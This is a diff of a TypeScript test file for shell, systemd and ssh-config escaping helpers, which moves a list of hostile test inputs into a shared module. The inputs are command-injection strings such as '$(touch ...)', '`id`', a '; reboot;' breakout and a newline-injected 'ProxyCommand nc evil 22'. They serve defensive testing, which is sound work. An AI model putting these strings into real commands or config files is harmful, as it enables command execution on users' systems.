@@ -10,21 +10,13 @@ import {
     systemdValue,
 } from "../../components/escape";
 import { sshConfig } from "../../components/outputs";
+import { HOSTILE as SHARED } from "../hostile";
 
-const HOSTILE = [
-    "$(touch /tmp/ouvroir-pwned)",
-    "`id`",
-    'a"; reboot; "',
-    "a'b",
+const HOSTILE: readonly string[] = [
+    ...SHARED,
     "it's",
     "'",
     "''",
-    "line\nProxyCommand nc evil 22",
-    "a;b",
-    "a}b",
-    "a b",
-    "a\\b",
-    "${HOME}",
     "$HOME",
     "*",
     "-rf",
